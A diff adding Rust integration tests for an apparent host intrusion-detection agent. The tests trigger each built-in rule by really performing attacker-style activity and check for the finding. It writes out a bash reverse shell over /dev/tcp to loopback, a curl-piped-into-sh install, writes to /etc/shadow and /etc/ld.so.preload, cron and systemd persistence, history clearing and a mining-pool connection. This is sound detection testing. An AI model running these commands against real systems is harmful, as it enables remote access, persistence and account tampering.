@@ -1,0 +1,824 @@
+//! Detection against the real kernel: every built-in rule is triggered by really doing
+//! the activity (in temporary directories, a network namespace of its own where a
+//! network is needed), and its finding, with its ATT&CK id, must reach the agent's API
+//! within 2 s (the issue's bound; the agent drains every 500 ms). A benign workload
+//! raises nothing, a bad rule file is refused with its file and line, and an exec
+//! storm through the agent is accounted for.
+use std::{
+    fs,
+    io::{Read as _, Write as _},
+    os::unix::{fs::PermissionsExt as _, process::CommandExt as _},
+    path::{Path, PathBuf},
+    process::{Command, Stdio},
+    time::{Duration, Instant},
+};
+
+use vigil_proto::v1::{Finding, FindingsRequest, StatsRequest};
+use vigil_tests::{require_root, vigil_bin, KillOnDrop, Vigil};
+
+const WORKLOAD: &str = env!("CARGO_BIN_EXE_vigil-workload");
+/// The issue's bound for a finding to arrive.
+const WITHIN: Duration = Duration::from_secs(2);
+
+struct Agent {
+    vigil: Vigil,
+    socket: PathBuf,
+    dir: tempfile::TempDir,
+}
+
+impl Agent {
+    fn start(extra_rules: Option<&str>) -> Self {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let rules = dir.path().join("rules.d");
+        fs::create_dir(&rules).unwrap();
+        if let Some(r) = extra_rules {
+            fs::write(rules.join("test.yaml"), r).unwrap();
+        }
+        let config = dir.path().join("agent.toml");
+        fs::write(
+            &config,
+            format!("[detect]\nrules_dir = \"{}\"\n", rules.display()),
+        )
+        .unwrap();
+        let socket = dir.path().join("agent.sock");
+        let data = dir.path().join("data");
+        let vigil = Vigil::start(&[
+            "agent",
+            "--config",
+            config.to_str().unwrap(),
+            "--interval",
+            "1s",
+            "--socket",
+            socket.to_str().unwrap(),
+            "--data-dir",
+            data.to_str().unwrap(),
+        ]);
+        Self { vigil, socket, dir }
+    }
+
+    fn findings(&self, since_ms: i64) -> Vec<Finding> {
+        rt().block_on(async {
+            let mut c = vigil::query::api::connect(&self.socket)
+                .await
+                .expect("agent API");
+            c.findings(FindingsRequest {
+                since_unix_ms: since_ms,
+            })
+            .await
+            .expect("findings")
+            .into_inner()
+            .findings
+        })
+    }
+
+    fn stats(&self) -> vigil_proto::v1::AgentSelf {
+        rt().block_on(async {
+            let mut c = vigil::query::api::connect(&self.socket)
+                .await
+                .expect("agent API");
+            loop {
+                match c.stats(StatsRequest {}).await {
+                    Ok(r) => return r.into_inner().agent.unwrap_or_default(),
+                    // No sample yet in the first interval.
+                    Err(_) => tokio::time::sleep(Duration::from_millis(200)).await,
+                }
+            }
+        })
+    }
+
+    /// Waits (at most WITHIN after `done`) for a finding of `rule` that `pred` accepts.
+    fn expect(
+        &self,
+        rule: &str,
+        mitre: &str,
+        since_ms: i64,
+        done: Instant,
+        pred: impl Fn(&Finding) -> bool,
+    ) -> Finding {
+        loop {
+            let all = self.findings(since_ms);
+            if let Some(f) = all.iter().find(|f| f.rule == rule && pred(f)) {
+                let took = done.elapsed();
+                assert!(
+                    f.mitre.iter().any(|m| m == mitre),
+                    "{rule}: ATT&CK {mitre} expected in {:?}",
+                    f.mitre
+                );
+                assert!(f.time_unix_ms >= since_ms, "{f:?}");
+                assert!(!f.severity.is_empty() && f.process.is_some(), "{f:?}");
+                eprintln!("{rule}: finding after {took:?}: {f:?}");
+                return f.clone();
+            }
+            if done.elapsed() > WITHIN {
+                panic!(
+                    "{rule}: no finding within {WITHIN:?} of the activity; findings: {:#?}",
+                    all.iter()
+                        .map(|f| (
+                            &f.rule,
+                            f.process.as_ref().map(|p| (&p.exe, &p.cmdline)),
+                            &f.details
+                        ))
+                        .collect::<Vec<_>>()
+                );
+            }
+            std::thread::sleep(Duration::from_millis(50));
+        }
+    }
+}
+
+fn rt() -> tokio::runtime::Runtime {
+    tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .expect("runtime")
+}
+
+fn now_ms() -> i64 {
+    vigil::export::convert::unix_ms(std::time::SystemTime::now())
+}
+
+fn run(cmd: &mut Command) -> std::process::Output {
+    let out = cmd
+        .stdin(Stdio::null())
+        .output()
+        .unwrap_or_else(|e| panic!("{cmd:?}: {e}"));
+    out
+}
+
+/// A directory under /tmp that other users can enter (for the set-uid test).
+fn tmp_dir() -> tempfile::TempDir {
+    let d = tempfile::Builder::new()
+        .prefix("vigil-detect-")
+        .tempdir_in("/tmp")
+        .unwrap();
+    fs::set_permissions(d.path(), fs::Permissions::from_mode(0o755)).unwrap();
+    d
+}
+
+fn copy_exec(from: &str, to: &Path) {
+    fs::copy(from, to).unwrap();
+    fs::set_permissions(to, fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+fn pid_of(f: &Finding) -> u32 {
+    f.process.as_ref().map_or(0, |p| p.pid)
+}
+
+/// Runs `script` (sh) in a new network namespace with loopback up.
+fn in_own_netns(script: &str) -> std::process::Output {
+    run(Command::new("unshare").args(["-n", "sh", "-c", &format!("ip link set lo up && {script}")]))
+}
+
+macro_rules! root {
+    ($name:expr) => {
+        if !require_root($name) {
+            return;
+        }
+    };
+}
+
+#[test]
+fn exec_from_temp_dir() {
+    root!("exec_from_temp_dir");
+    let agent = Agent::start(None);
+    let d = tmp_dir();
+    let prog = d.path().join("payload");
+    copy_exec("/bin/true", &prog);
+    let since = now_ms();
+    let child = Command::new(&prog).spawn().unwrap();
+    let pid = child.id();
+    let _ = child.wait_with_output();
+    let f = agent.expect("exec-from-temp-dir", "T1204", since, Instant::now(), |f| {
+        pid_of(f) == pid
+    });
+    let p = f.process.unwrap();
+    assert_eq!(p.exe, prog.to_str().unwrap());
+    assert_eq!(f.parent.unwrap().pid, std::process::id());
+}
+
+#[test]
+fn fileless_exec_from_memfd_and_deleted_file() {
+    root!("fileless_exec_from_memfd_and_deleted_file");
+    let agent = Agent::start(None);
+    for mode in ["memfd-exec", "unlinked-exec"] {
+        let since = now_ms();
+        let child = Command::new(WORKLOAD)
+            .args([mode, "/bin/true"])
+            .stdin(Stdio::null())
+            .spawn()
+            .unwrap();
+        let pid = child.id();
+        let out = child.wait_with_output().unwrap();
+        assert!(out.status.success(), "{mode}: {out:?}");
+        let f = agent.expect("fileless-exec", "T1620", since, Instant::now(), |f| {
+            pid_of(f) == pid
+        });
+        let exe = f.process.unwrap().exe;
+        if mode == "memfd-exec" {
+            assert_eq!(exe, "/memfd:vigil-test (deleted)");
+        } else {
+            assert!(exe.ends_with(" (deleted)"), "{exe}");
+        }
+    }
+}
+
+#[test]
+fn shell_from_network_service() {
+    root!("shell_from_network_service");
+    let agent = Agent::start(None);
+    let d = tmp_dir();
+    // A program named like the web server (the rule reads the parent's short name).
+    let nginx = d.path().join("nginx");
+    copy_exec("/bin/dash", &nginx);
+    let since = now_ms();
+    let out = run(Command::new(&nginx).args(["-c", "/bin/sh -c 'echo pwned'; true"]));
+    assert!(out.status.success());
+    let f = agent.expect(
+        "shell-from-network-service",
+        "T1190",
+        since,
+        Instant::now(),
+        |f| f.parent.as_ref().is_some_and(|p| p.name == "nginx"),
+    );
+    assert_eq!(f.process.unwrap().name, "sh");
+}
+
+#[test]
+fn reverse_shell_over_a_socket() {
+    root!("reverse_shell_over_a_socket");
+    let agent = Agent::start(None);
+    let since = now_ms();
+    // A listener in the namespace sends `exit` to whatever shell connects.
+    let out = in_own_netns(
+        "python3 -c 'import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((\"127.0.0.1\", 4444)); s.listen(); c,_=s.accept(); c.sendall(b\"exit\\n\"); c.recv(100)' & \
+         sleep 0.5; bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'; wait",
+    );
+    assert!(out.status.success(), "{out:?}");
+    let f = agent.expect("reverse-shell", "T1059.004", since, Instant::now(), |_| {
+        true
+    });
+    assert_eq!(f.process.as_ref().unwrap().name, "bash");
+    assert_eq!(
+        f.details.get("stdin").map(String::as_str),
+        Some("socket"),
+        "{f:?}"
+    );
+}
+
+#[test]
+fn download_piped_into_a_shell() {
+    root!("download_piped_into_a_shell");
+    let agent = Agent::start(None);
+    // A local web server serving a script.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let server = std::thread::spawn(move || {
+        let (mut c, _) = listener.accept().unwrap();
+        let mut buf = [0u8; 1024];
+        let _ = c.read(&mut buf);
+        let body = "echo installed\n";
+        let _ = write!(
+            c,
+            "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
+            body.len()
+        );
+    });
+    let since = now_ms();
+    let out = run(Command::new("sh").args([
+        "-c",
+        &format!("curl -fsS http://127.0.0.1:{port}/install.sh | sh"),
+    ]));
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains("installed"),
+        "{out:?}"
+    );
+    server.join().unwrap();
+    let f = agent.expect(
+        "download-piped-to-shell",
+        "T1105",
+        since,
+        Instant::now(),
+        |_| true,
+    );
+    assert!(
+        f.details
+            .get("stdin_from")
+            .is_some_and(|s| s.starts_with("curl")),
+        "{f:?}"
+    );
+}
+
+#[test]
+fn ptrace_attach_to_another_process() {
+    root!("ptrace_attach_to_another_process");
+    let agent = Agent::start(None);
+    let since = now_ms();
+    let child = Command::new(WORKLOAD)
+        .arg("ptrace-attach")
+        .stdin(Stdio::null())
+        .spawn()
+        .unwrap();
+    let pid = child.id();
+    let out = child.wait_with_output().unwrap();
+    assert!(out.status.success(), "{out:?}");
+    let f = agent.expect("ptrace-attach", "T1055.008", since, Instant::now(), |f| {
+        pid_of(f) == pid
+    });
+    let target: u32 = f.details["target_pid"].parse().unwrap();
+    assert_ne!(target, pid);
+    assert!(f.details["target_exe"].ends_with("/sleep"), "{f:?}");
+}
+
+#[test]
+fn privilege_escalation_to_root_by_a_set_uid_program() {
+    root!("privilege_escalation_to_root_by_a_set_uid_program");
+    let agent = Agent::start(None);
+    let d = tmp_dir();
+    let prog = d.path().join("escalate");
+    copy_exec(WORKLOAD, &prog);
+    fs::set_permissions(&prog, fs::Permissions::from_mode(0o4755)).unwrap();
+    let since = now_ms();
+    let child = Command::new(&prog)
+        .arg("setuid-root")
+        .uid(65534)
+        .gid(65534)
+        .stdin(Stdio::null())
+        .spawn()
+        .unwrap();
+    let pid = child.id();
+    let status = child.wait_with_output().unwrap().status;
+    assert!(
+        status.success(),
+        "setuid(0) from a set-uid root program must work: {status}"
+    );
+    let f = agent.expect(
+        "privilege-escalation-to-root",
+        "T1548",
+        since,
+        Instant::now(),
+        |f| pid_of(f) == pid,
+    );
+    assert_eq!(f.details["old_uid"], "65534");
+    assert_eq!(f.details["new_uid"], "0");
+    // sudo and friends are the exceptions, not every set-uid program: the same call
+    // by root (not an escalation) raises nothing.
+    let since = now_ms();
+    let out = run(Command::new(&prog).arg("setuid-root"));
+    assert!(out.status.success());
+    std::thread::sleep(Duration::from_millis(1200));
+    let pids: Vec<u32> = agent
+        .findings(since)
+        .iter()
+        .filter(|f| f.rule == "privilege-escalation-to-root")
+        .map(pid_of)
+        .collect();
+    assert!(
+        pids.is_empty(),
+        "root calling setuid(0) is not an escalation: {pids:?}"
+    );
+}
+
+#[test]
+fn kernel_module_load() {
+    root!("kernel_module_load");
+    let agent = Agent::start(None);
+    let since = now_ms();
+    let child = Command::new(WORKLOAD)
+        .arg("finit-module")
+        .stdin(Stdio::null())
+        .spawn()
+        .unwrap();
+    let pid = child.id();
+    let _ = child.wait_with_output();
+    let f = agent.expect(
+        "kernel-module-load",
+        "T1547.006",
+        since,
+        Instant::now(),
+        |f| pid_of(f) == pid,
+    );
+    // The module file's name comes from the kernel (the caller may be gone already).
+    assert_eq!(
+        f.details.get("file").map(String::as_str),
+        Some("null"),
+        "{f:?}"
+    );
+}
+
+/// Opens `path` for appending (creating it), writes nothing, and removes it again if it
+/// did not exist before.
+fn touch_for_write(path: &str) -> u32 {
+    let existed = Path::new(path).exists();
+    let child = Command::new("sh")
+        .args(["-c", &format!(": >> {path}")])
+        .spawn()
+        .unwrap();
+    let pid = child.id();
+    assert!(child.wait_with_output().unwrap().status.success());
+    if !existed {
+        let _ = fs::remove_file(path);
+    }
+    pid
+}
+
+#[test]
+fn writes_to_account_files() {
+    root!("writes_to_account_files");
+    let agent = Agent::start(None);
+    let since = now_ms();
+    let pid = touch_for_write("/etc/shadow");
+    let f = agent.expect(
+        "account-or-sudoers-write",
+        "T1098",
+        since,
+        Instant::now(),
+        |f| pid_of(f) == pid,
+    );
+    assert_eq!(f.details["path"], "/etc/shadow");
+    assert_eq!(f.details["operation"], "open_for_write");
+    // Reading it is not writing it.
+    let since = now_ms();
+    let _ = fs::read("/etc/shadow");
+    std::thread::sleep(Duration::from_millis(1200));
+    assert!(agent
+        .findings(since)
+        .iter()
+        .all(|f| f.rule != "account-or-sudoers-write"));
+}
+
+#[test]
+fn crontab_and_systemd_unit_tampering() {
+    root!("crontab_and_systemd_unit_tampering");
+    let agent = Agent::start(None);
+    let unit = format!(
+        "/etc/systemd/system/vigil-test-{}.service",
+        std::process::id()
+    );
+    fs::create_dir_all("/etc/systemd/system").unwrap();
+    let since = now_ms();
+    let pid = touch_for_write(&unit);
+    let f = agent.expect(
+        "persistence-cron-or-systemd",
+        "T1543.002",
+        since,
+        Instant::now(),
+        |f| pid_of(f) == pid,
+    );
+    assert_eq!(f.details["path"], unit);
+    // A cron file put in place by rename (as editors and `sed -i` do).
+    let made_cron_d = !Path::new("/etc/cron.d").exists();
+    fs::create_dir_all("/etc/cron.d").unwrap();
+    // Directories are looked up at start and every minute: restart to pick up one
+    // this test created.
+    drop(agent);
+    let agent = Agent::start(None);
+    let staged = PathBuf::from(format!("/etc/.vigil-test-cron-{}", std::process::id()));
+    fs::write(&staged, "# test\n").unwrap();
+    let target = format!("/etc/cron.d/vigil-test-{}", std::process::id());
+    let since = now_ms();
+    let out = run(Command::new("mv").arg(&staged).arg(&target));
+    assert!(out.status.success(), "{out:?}");
+    let _ = fs::remove_file(&target);
+    if made_cron_d {
+        let _ = fs::remove_dir("/etc/cron.d");
+    }
+    let f = agent.expect(
+        "persistence-cron-or-systemd",
+        "T1053.003",
+        since,
+        Instant::now(),
+        |f| f.details.get("path") == Some(&target),
+    );
+    assert_eq!(f.details["operation"], "rename");
+    assert_eq!(f.process.unwrap().name, "mv");
+}
+
+#[test]
+fn ld_so_preload_written() {
+    root!("ld_so_preload_written");
+    let agent = Agent::start(None);
+    let since = now_ms();
+    let pid = touch_for_write("/etc/ld.so.preload");
+    let f = agent.expect("ld-so-preload", "T1574.006", since, Instant::now(), |f| {
+        pid_of(f) == pid
+    });
+    assert_eq!(f.severity, "critical");
+}
+
+#[test]
+fn shell_history_cleared() {
+    root!("shell_history_cleared");
+    let agent = Agent::start(None);
+    let d = tmp_dir();
+    let hist = d.path().join(".bash_history");
+    fs::write(&hist, "ls\n").unwrap();
+    let since = now_ms();
+    let out = run(Command::new("rm").arg(&hist));
+    assert!(out.status.success());
+    agent.expect(
+        "shell-history-cleared",
+        "T1070.003",
+        since,
+        Instant::now(),
+        |f| f.process.as_ref().is_some_and(|p| p.name == "rm"),
+    );
+    let since = now_ms();
+    run(Command::new("bash").args(["-c", "history -c"]));
+    agent.expect(
+        "shell-history-cleared",
+        "T1070.003",
+        since,
+        Instant::now(),
+        |f| {
+            f.process
+                .as_ref()
+                .is_some_and(|p| p.cmdline.contains("history -c"))
+        },
+    );
+}
+
+#[test]
+fn crypto_miner_binary_and_pool_connection() {
+    root!("crypto_miner_binary_and_pool_connection");
+    let agent = Agent::start(None);
+    let d = tmp_dir();
+    let miner = d.path().join("xmrig");
+    copy_exec("/bin/true", &miner);
+    let since = now_ms();
+    run(Command::new(&miner).args(["-o", "stratum+tcp://pool.example:3333"]));
+    agent.expect("crypto-miner", "T1496", since, Instant::now(), |f| {
+        f.process.as_ref().is_some_and(|p| p.name == "xmrig")
+    });
+    // A connect to a stratum port, inside a namespace of its own.
+    let since = now_ms();
+    let out = in_own_netns(&format!("{WORKLOAD} connect 3333 </dev/null"));
+    assert!(out.status.success(), "{out:?}");
+    let f = agent.expect(
+        "mining-pool-connection",
+        "T1496",
+        since,
+        Instant::now(),
+        |_| true,
+    );
+    assert_eq!(f.details["port"], "3333");
+    assert_eq!(f.details["remote_addr"], "127.0.0.1");
+}
+
+#[test]
+fn nsenter_into_pid_1() {
+    root!("nsenter_into_pid_1");
+    let agent = Agent::start(None);
+    let since = now_ms();
+    // Whether the kernel lets it in doesn't matter: the attempt is the finding.
+    run(Command::new("nsenter").args(["-t", "1", "-m", "-u", "true"]));
+    agent.expect(
+        "nsenter-host-namespaces",
+        "T1611",
+        since,
+        Instant::now(),
+        |_| true,
+    );
+}
+
+#[test]
+fn interpreter_listening_and_shell_connecting() {
+    root!("interpreter_listening_and_shell_connecting");
+    let agent = Agent::start(None);
+    let since = now_ms();
+    let out = in_own_netns(
+        "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 8081)); s.listen(); c,_=s.accept(); c.recv(10)' & \
+         sleep 0.5; bash -c 'echo hi > /dev/tcp/127.0.0.1/8081'; wait",
+    );
+    assert!(out.status.success(), "{out:?}");
+    let f = agent.expect(
+        "interpreter-listening",
+        "T1571",
+        since,
+        Instant::now(),
+        |_| true,
+    );
+    assert_eq!(f.details["port"], "8081");
+    assert!(f.process.unwrap().name.starts_with("python"));
+    let f = agent.expect(
+        "interpreter-outbound-connection",
+        "T1059.004",
+        since,
+        Instant::now(),
+        |_| true,
+    );
+    assert_eq!(f.details["port"], "8081");
+    assert_eq!(f.process.unwrap().name, "bash");
+}
+
+#[test]
+fn a_repeating_finding_is_one_alert_with_a_count() {
+    root!("a_repeating_finding_is_one_alert_with_a_count");
+    let agent = Agent::start(Some(
+        "rules:\n  - id: test-repeat\n    description: a test program ran\n    severity: low\n    mitre: [T1059]\n    events: [exec]\n    condition:\n      process.name: vigil-repeat\n    dedup: 3s\n",
+    ));
+    let d = tmp_dir();
+    let prog = d.path().join("vigil-repeat");
+    copy_exec("/bin/true", &prog);
+    let since = now_ms();
+    for _ in 0..5 {
+        run(&mut Command::new(&prog));
+    }
+    let first = agent.expect("test-repeat", "T1059", since, Instant::now(), |_| true);
+    assert_eq!(first.count, 1);
+    // The window closes 3 s after the first: one more finding with the total.
+    let last = agent.expect(
+        "test-repeat",
+        "T1059",
+        since,
+        Instant::now() + Duration::from_secs(3),
+        |f| f.count > 1,
+    );
+    assert_eq!(last.count, 5, "{last:?}");
+    assert_eq!(
+        agent
+            .findings(since)
+            .iter()
+            .filter(|f| f.rule == "test-repeat")
+            .count(),
+        2
+    );
+}
+
+#[test]
+fn a_bad_rule_file_is_refused_and_the_last_good_rules_stay() {
+    root!("a_bad_rule_file_is_refused_and_the_last_good_rules_stay");
+    let good = "rules:\n  - id: test-marker\n    description: marker ran\n    severity: low\n    mitre: [T1059]\n    events: [exec]\n    condition:\n      process.name: vigil-marker\n    dedup: 0s\n";
+    let agent = Agent::start(Some(good));
+    let rules = agent.dir.path().join("rules.d/test.yaml");
+    fs::write(&rules, "rules:\n  - id: broken\n    description: x\n    severity: low\n    mitre: [T1059]\n    events: [exec]\n    condition:\n      process.nam: x\n").unwrap();
+    // The CLI's own check says where and why.
+    let out = run(Command::new(vigil_bin()).args([
+        "rules",
+        "check",
+        "--dir",
+        rules.parent().unwrap().to_str().unwrap(),
+    ]));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success());
+    assert!(
+        err.contains("test.yaml:2:") && err.contains("unknown field `process.nam`"),
+        "{err}"
+    );
+    let pid = agent.vigil.pid();
+    nix::sys::signal::kill(
+        nix::unistd::Pid::from_raw(pid as i32),
+        nix::sys::signal::Signal::SIGHUP,
+    )
+    .unwrap();
+    std::thread::sleep(Duration::from_millis(500));
+    let d = tmp_dir();
+    let prog = d.path().join("vigil-marker");
+    copy_exec("/bin/true", &prog);
+    let since = now_ms();
+    run(&mut Command::new(&prog));
+    agent.expect("test-marker", "T1059", since, Instant::now(), |_| true);
+}
+
+#[test]
+fn a_benign_workload_raises_no_finding() {
+    root!("a_benign_workload_raises_no_finding");
+    let agent = Agent::start(None);
+    let me = std::process::id();
+    let work = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    let w = work.path();
+    let since = now_ms();
+    // Compiling and running the result.
+    fs::write(
+        w.join("hello.c"),
+        "#include <stdio.h>\nint main(void){puts(\"hello\");return 0;}\n",
+    )
+    .unwrap();
+    let out = run(Command::new("cc")
+        .arg("-O1")
+        .arg("-o")
+        .arg(w.join("hello"))
+        .arg(w.join("hello.c")));
+    assert!(out.status.success(), "{out:?}");
+    assert!(run(&mut Command::new(w.join("hello"))).status.success());
+    // Scripts and ordinary shells with pipelines.
+    fs::write(w.join("job.sh"), "#!/bin/sh\nfor i in 1 2 3; do echo $i | grep -c 2 | wc -l; done\nls / | sort | head -3 >/dev/null\n").unwrap();
+    fs::set_permissions(w.join("job.sh"), fs::Permissions::from_mode(0o755)).unwrap();
+    assert!(run(&mut Command::new(w.join("job.sh"))).status.success());
+    assert!(run(Command::new("python3").args([
+        "-c",
+        "import json,os; print(json.dumps(sorted(os.listdir('.'))))"
+    ]))
+    .status
+    .success());
+    assert!(run(Command::new("bash").args([
+        "-c",
+        "x=$(date +%s); echo $((x+1)) | cat > /dev/null; grep -q root /etc/passwd"
+    ]))
+    .status
+    .success());
+    // Package-manager-like churn: unpack, rename into place, remove.
+    let root = w.join("pkgroot");
+    for i in 0..200 {
+        let dir = root.join(format!("usr/share/pkg{}", i % 10));
+        fs::create_dir_all(&dir).unwrap();
+        let tmp = dir.join(format!("file{i}.dpkg-new"));
+        fs::write(&tmp, vec![b'x'; 512]).unwrap();
+        fs::rename(&tmp, dir.join(format!("file{i}"))).unwrap();
+    }
+    assert!(run(Command::new("tar")
+        .arg("-C")
+        .arg(w)
+        .arg("-czf")
+        .arg(w.join("p.tgz"))
+        .arg("pkgroot"))
+    .status
+    .success());
+    fs::remove_dir_all(&root).unwrap();
+    // A cron-like job: a detached shell that writes a timestamp.
+    assert!(run(Command::new("setsid").args([
+        "sh",
+        "-c",
+        &format!("date > {}/cron.out; sleep 0.1", w.display())
+    ]))
+    .status
+    .success());
+    std::thread::sleep(Duration::from_millis(1500));
+    // Findings caused by this workload: the test process or its descendants.
+    let mine: Vec<Finding> = agent
+        .findings(since)
+        .into_iter()
+        .filter(|f| {
+            let ids = f.parent.iter().chain(f.ancestors.iter()).map(|p| p.pid);
+            ids.chain(f.process.iter().map(|p| p.pid)).any(|p| p == me)
+                || f.parent.as_ref().is_some_and(|p| p.pid == me)
+        })
+        .collect();
+    assert!(
+        mine.is_empty(),
+        "a benign workload raised findings: {mine:#?}"
+    );
+    let stats = agent.stats();
+    assert!(
+        stats.process_events > 50,
+        "the workload's processes were seen: {stats:?}"
+    );
+}
+
+#[test]
+fn an_exec_storm_through_the_agent_is_accounted_for() {
+    root!("an_exec_storm_through_the_agent_is_accounted_for");
+    const EXECS: u64 = 20_000;
+    let agent = Agent::start(Some(
+        "rules:\n  - id: test-storm\n    description: storm program ran\n    severity: info\n    mitre: [T1059]\n    events: [exec]\n    condition:\n      process.name: vigil-storm\n    dedup: 10m\n",
+    ));
+    let d = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    let prog = d.path().join("vigil-storm");
+    copy_exec("/bin/true", &prog);
+    let before = agent.stats();
+    let lost_before = before.losses.unwrap_or_default().process_ringbuf_full;
+    let mut w = KillOnDrop(
+        Command::new(WORKLOAD)
+            .args(["exec", &EXECS.to_string(), prog.to_str().unwrap()])
+            .stdin(Stdio::piped())
+            .spawn()
+            .unwrap(),
+    );
+    writeln!(w.0.stdin.take().unwrap()).unwrap();
+    assert!(w.0.wait().unwrap().success());
+    // Until the agent has drained and counted everything (two intervals).
+    std::thread::sleep(Duration::from_secs(3));
+    let after = agent.stats();
+    let matched = after.rule_matches.get("test-storm").copied().unwrap_or(0);
+    let lost = after.losses.unwrap_or_default().process_ringbuf_full - lost_before;
+    eprintln!("exec storm: {EXECS} execs, {matched} matched, {lost} process events lost in the kernel, table {} (untracked {})", after.processes_tracked, after.processes_untracked);
+    assert!(matched <= EXECS, "more matches than execs: {matched}");
+    assert!(
+        matched + lost >= EXECS,
+        "{EXECS} execs: {matched} delivered + {lost} counted lost"
+    );
+    // One finding for the storm (dedup), not 20,000.
+    let findings = agent.findings(0);
+    assert_eq!(
+        findings.iter().filter(|f| f.rule == "test-storm").count(),
+        1
+    );
+    // Memory bounded: the exited processes leave the table, the agent stays small.
+    let rss_kib = fs::read_to_string(format!("/proc/{}/status", agent.vigil.pid()))
+        .unwrap()
+        .lines()
+        .find_map(|l| {
+            l.strip_prefix("VmRSS:").map(|v| {
+                v.trim()
+                    .trim_end_matches(" kB")
+                    .trim()
+                    .parse::<u64>()
+                    .unwrap()
+            })
+        })
+        .unwrap();
+    eprintln!("agent RSS after the storm: {} MiB", rss_kib / 1024);
+    assert!(
+        rss_kib < 96 * 1024,
+        "agent RSS {rss_kib} KiB after the storm"
+    );
+}
